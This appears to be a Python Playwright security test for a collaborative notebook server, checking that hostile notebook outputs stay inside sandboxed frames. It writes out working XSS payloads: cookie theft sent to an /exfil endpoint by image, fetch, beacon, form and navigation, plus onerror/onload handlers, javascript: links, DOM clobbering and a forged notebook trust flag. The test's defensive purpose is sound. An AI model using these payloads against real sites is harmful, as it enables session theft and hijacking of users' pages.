"""Hostile outputs run nothing in the app's origin.

Each payload tries every way out it can: set a marker on ``top``/``parent``, rename
the app's tab, read ``document.cookie`` and send it to the server (image, fetch,
beacon, form, top navigation, popup), clobber the app's DOM. Some come from a saved
.ipynb (with a forged ``"trusted": true``), some from running ``IPython.display``
in a real kernel while another person watches. Afterwards the app's page has no
marker, its DOM holds none of the payloads' elements, the server saw no request
for the exfiltration URL, and no request made by an output frame carried the session
cookie (the app page's own load of ``/sandbox`` into the frame may). To show the payloads were not simply dropped, the scripts that may run
(inside the sandbox) leave a marker in their own frame, and the test finds it there.
"""

from __future__ import annotations

import html
import json
from typing import Any
from urllib.parse import urlsplit

from playwright.async_api import Error as PlaywrightError
from playwright.async_api import Page, Request, expect
from tornado import web

from collab_server.handlers.base import SESSION_COOKIE
from tests.conftest import Server, ServerFactory

from .conftest import (
    KERNEL_TIMEOUT,
    WEB,
    PersonFactory,
    cell,
    code,
    eventually,
    markdown,
    notebook_of,
)

pytestmark = WEB


class ExfilHandler(web.RequestHandler):
    """Where the payloads send what they stole: records every request, cookies included."""

    def initialize(self, hits: list[dict[str, str]]) -> None:
        self.hits = hits

    def check_xsrf_cookie(self) -> None:
        """A form post from a payload must be recorded, not refused."""

    def prepare(self) -> None:
        self.hits.append(
            {"path": self.request.path, "cookie": self.request.headers.get("Cookie", "")}
        )
        self.finish("ok")


def escape_script(origin: str, tag: str) -> str:
    """JavaScript that tries every way out of its frame, then marks its own frame."""
    return f"""(function () {{
  var tag = {json.dumps(tag)}, origin = {json.dumps(origin)};
  var stolen = 'none';
  try {{ stolen = document.cookie; }} catch (e) {{ stolen = 'denied'; }}
  var exfil = function (how) {{
    return origin + '/exfil/' + how + '-' + tag + '?c=' + encodeURIComponent(stolen);
  }};
  try {{ parent.__pwned = tag; }} catch (e) {{}}
  try {{ top.__pwned = tag; }} catch (e) {{}}
  try {{ top.document.title = 'pwned:' + tag; }} catch (e) {{}}
  try {{ parent.document.body.setAttribute('data-pwned', tag); }} catch (e) {{}}
  try {{ new Image().src = exfil('img'); }} catch (e) {{}}
  try {{ fetch(exfil('fetch'), {{credentials: 'include', mode: 'no-cors'}}).catch(function () {{}}); }} catch (e) {{}}
  try {{ navigator.sendBeacon(exfil('beacon'), stolen); }} catch (e) {{}}
  try {{ window.open(exfil('popup')); }} catch (e) {{}}
  try {{ top.location.href = exfil('top'); }} catch (e) {{}}
  var mark = document.createElement('p');
  mark.setAttribute('data-ran', tag);
  mark.textContent = 'ran in sandbox: ' + tag;
  (document.body || document.documentElement).appendChild(mark);
}})();"""


def attribute_js(origin: str, tag: str) -> str:
    return html.escape(escape_script(origin, tag), quote=True)


def html_payloads(origin: str, prefix: str) -> dict[str, str]:
    """HTML outputs, by name; the tags of the ones whose script should run are the keys."""
    return {
        f"{prefix}script": (
            f"<b>html output {prefix}</b><script>{escape_script(origin, prefix + 'script')}</script>"
        ),
        f"{prefix}img": f'<img src="x" onerror="{attribute_js(origin, prefix + "img")}">',
        f"{prefix}form": (
            f'<form id="boot" name="clobbered" action="{origin}/exfil/form-{prefix}" '
            'method="post" target="_top"><input name="c" value="form"></form>'
            f'<form id="clobbered-form"><input name="appendChild"></form>'
            '<img name="clobbered-img" src="data:,">'
            "<script>try { document.getElementById('boot').submit(); } catch (e) {}"
            f"{escape_script(origin, prefix + 'form')}</script>"
        ),
        f"{prefix}link": (
            f'<a id="jslink" href="javascript:{attribute_js(origin, prefix + "jslink")}">here</a>'
            f'<a id="toplink" target="_top" href="javascript:parent.__pwned=1">to top</a>'
            f'<a id="exfil-link" target="_top" href="{origin}/exfil/link-{prefix}">away</a>'
            "<script>for (const id of ['toplink', 'exfil-link', 'jslink']) {"
            " try { document.getElementById(id).click(); } catch (e) {} }"
            f"{escape_script(origin, prefix + 'link')}</script>"
        ),
    }


def svg_payload(origin: str, tag: str) -> str:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="60" height="30" '
        f'onload="{attribute_js(origin, tag + "-onload")}">'
        f"<script>{html.escape(escape_script(origin, tag))}</script>"
        '<rect width="60" height="30" fill="teal"/></svg>'
    )


def display(mime: str, value: str) -> dict[str, Any]:
    return {"output_type": "display_data", "data": {mime: value}, "metadata": {}}


def hostile_notebook(origin: str) -> dict[str, Any]:
    """A saved notebook whose outputs (and one markdown cell) are all hostile."""
    outputs = [display("text/html", body) for body in html_payloads(origin, "file-").values()]
    outputs += [
        display("application/javascript", escape_script(origin, "file-js")),
        display("image/svg+xml", svg_payload(origin, "file-svg")),
        display(
            "text/markdown",
            f'**md output** <img src="x" onerror="{attribute_js(origin, "file-md")}">'
            " [md link](javascript:parent.__pwned=1)",
        ),
        {"output_type": "stream", "name": "stdout", "text": "<script>parent.__pwned=1</script>"},
        {
            "output_type": "error",
            "ename": "Evil",
            "evalue": '<img src=x onerror="parent.__pwned=1">',
            "traceback": ['\x1b[31mEvil\x1b[0m: <img src=x onerror="parent.__pwned=1">'],
        },
    ]
    return notebook_of(
        markdown(
            "md",
            "# Hostile markdown\n\n"
            f'<img src="x" onerror="{attribute_js(origin, "md-cell")}">\n\n'
            "<script>parent.__pwned='md-script'</script>\n\n"
            '<form id="clobbered-md"><input name="appendChild"></form>'
            '<img name="clobbered-md-img" src="data:,">\n\n'
            "[a link](javascript:parent.__pwned=1)\n",
        ),
        # The forged trust: a notebook cannot vouch for itself.
        code(
            "saved", "# outputs from a file", outputs, execution_count=1, metadata={"trusted": True}
        ),
        code("live", live_source(origin)),
    )


def live_source(origin: str) -> str:
    payloads = html_payloads(origin, "live-")
    return (
        "from IPython.display import HTML, Javascript, SVG, display\n"
        f"display(HTML({payloads['live-script']!r}))\n"
        f"display(HTML({payloads['live-img']!r}))\n"
        f"display(Javascript({escape_script(origin, 'live-js')!r}))\n"
        f"display(SVG({svg_payload(origin, 'live-svg')!r}))\n"
        "print('live done')\n"
    )


#: Scripts that run inside their sandboxed frame (and only there).
RUN_IN_FRAMES = {"file-script", "file-img", "file-form", "file-link", "file-js"}
RUN_IN_FRAMES_LIVE = {"live-script", "live-img", "live-js"}

#: What a page of the app must not hold: the payloads' elements, in its own DOM.
FOREIGN_IN_APP_DOM = """() => ({
    pwned: window.__pwned ?? null,
    title: document.title,
    bodyMark: document.body.getAttribute('data-pwned'),
    clobbered: [window.clobbered, document.clobbered, window['clobbered-img'],
                document.getElementById('clobbered-form'), document.getElementById('clobbered-md'),
                document.getElementsByName('clobbered-md-img')[0]].filter(Boolean).length,
    boots: document.querySelectorAll('#boot').length,
    bootIsData: document.getElementById('boot')?.getAttribute('type') ?? null,
    handlers: document.querySelectorAll('[onerror], [onload], [onclick]').length,
    inlineScripts: [...document.scripts].filter(s => !s.src && s.type !== 'application/json').length,
    jsLinks: [...document.querySelectorAll('a[href]')]
        .filter(a => a.getAttribute('href').trim().toLowerCase().startsWith('javascript:')).length,
    frames: [...document.querySelectorAll('iframe')].map(f => ({
        testid: f.dataset.testid ?? null, sandbox: f.getAttribute('sandbox'),
    })),
})"""


async def ran_in_frames(page: Page, expected: set[str]) -> None:
    """Wait until the payload scripts tagged ``expected`` have left their marks in frames."""

    async def missing() -> set[str]:
        return expected - await marks_in_frames(page)

    await eventually(missing, set())


async def marks_in_frames(page: Page) -> set[str]:
    """Tags of the payload scripts that ran, found in the page's (output) frames."""
    tags: set[str] = set()
    for frame in page.frames:
        if frame == page.main_frame or frame.is_detached():
            continue
        try:
            found = await frame.evaluate(
                "() => [...document.querySelectorAll('[data-ran]')].map(e => e.dataset.ran)"
            )
        except PlaywrightError:  # the frame went away while we looked: nothing to count
            continue
        tags.update(found)
    return tags


def record_requests(page: Page, log: list[dict[str, Any]]) -> None:
    """Log every request of ``page`` (its frames too) that got an answer from a server.

    Attempts the browser blocks (the frame's CSP) never leave it, and are not logged.
    """

    async def on_answered(request: Request) -> None:
        headers = await request.all_headers()
        log.append(
            {
                "url": request.url,
                "main_frame": request.frame == page.main_frame,
                "navigation": request.is_navigation_request(),
                "cookie": headers.get("cookie", ""),
            }
        )

    page.on("requestfinished", on_answered)


async def assert_nothing_escaped(page: Page, server: Server, notebook_id: str) -> None:
    seen = await page.evaluate(FOREIGN_IN_APP_DOM)
    assert seen["pwned"] is None, seen
    assert not seen["title"].startswith("pwned"), seen
    assert seen["bodyMark"] is None, seen
    assert seen["clobbered"] == 0, seen
    assert seen["boots"] == 1 and seen["bootIsData"] == "application/json", seen
    assert seen["handlers"] == 0 and seen["inlineScripts"] == 0 and seen["jsLinks"] == 0, seen
    assert seen["frames"], "no output frame at all"
    for frame in seen["frames"]:
        assert frame == {"testid": "output-frame", "sandbox": "allow-scripts"}, seen["frames"]
    assert page.url == f"{server.url}/notebooks/{notebook_id}"
    await expect(page.get_by_test_id("connection")).to_have_text("connected")


async def test_hostile_outputs_run_nothing_in_the_app(
    web_server: ServerFactory, person: PersonFactory
) -> None:
    server = await web_server()
    hits: list[dict[str, str]] = []
    app = server.http.request_callback
    assert isinstance(app, web.Application)
    app.add_handlers(r".*", [(r"/exfil/.*", ExfilHandler, {"hits": hits})])
    probe = await server.api("GET", "/exfil/probe", user=None)
    assert probe.code == 200 and [h["path"] for h in hits] == ["/exfil/probe"]
    hits.clear()
    notebook_id = await server.create_notebook(
        "alice/hostile.ipynb", hostile_notebook(server.url), editors=("bob",)
    )
    alice_context = await person(server, "alice")
    bob_context = await person(server, "bob")
    requests: dict[str, list[dict[str, Any]]] = {"alice": [], "bob": []}
    pages: dict[str, Page] = {}
    for name, context in (("alice", alice_context), ("bob", bob_context)):
        page = await context.new_page()
        record_requests(page, requests[name])
        response = await page.goto(f"/notebooks/{notebook_id}")
        assert response is not None and response.ok
        csp = response.headers.get("content-security-policy", "")
        script_src = next((d for d in csp.split(";") if d.strip().startswith("script-src")), "")
        assert "'self'" in script_src and "unsafe" not in script_src, csp
        assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp, csp
        await expect(page.get_by_test_id("connection")).to_have_text("connected")
        pages[name] = page
    alice, bob = pages["alice"], pages["bob"]

    # The saved outputs: rendered in sandboxed frames, where their scripts did run.
    for page in (alice, bob):
        await expect(cell(page, "saved").get_by_test_id("outputs")).to_contain_text(
            "<script>parent.__pwned=1</script>"
        )
        await expect(cell(page, "saved").get_by_test_id("outputs")).to_contain_text("Evil")
        await expect(cell(page, "md")).to_contain_text("Hostile markdown")
        await ran_in_frames(page, RUN_IN_FRAMES)

    # Alice runs the live cell; bob watches its outputs arrive.
    run = await server.api(
        "POST", f"/api/notebooks/{notebook_id}/execute", {"cell_ids": ["live"]}, user="alice"
    )
    assert run.code == 202, run.body
    for page in (alice, bob):
        await expect(cell(page, "live").get_by_test_id("outputs")).to_contain_text(
            "live done", timeout=KERNEL_TIMEOUT
        )
        await ran_in_frames(page, RUN_IN_FRAMES | RUN_IN_FRAMES_LIVE)

    # Every payload has run all it could; nothing reached the app or the server.
    for page in (alice, bob):
        await assert_nothing_escaped(page, server, notebook_id)
    assert hits == [], hits
    for name, log in requests.items():
        assert not [r for r in log if "/exfil" in r["url"]], (name, log)
        # The frames' only answered requests without the session cookie: loading /sandbox
        # (asked for by the app page) is the one that may carry it.
        from_frames = [
            r
            for r in log
            if not r["main_frame"]
            and not (r["navigation"] and urlsplit(r["url"]).path == "/sandbox")
        ]
        assert not [r for r in from_frames if SESSION_COOKIE in r["cookie"]], (name, from_frames)
    assert len(alice_context.pages) == 1 and len(bob_context.pages) == 1  # no popup opened
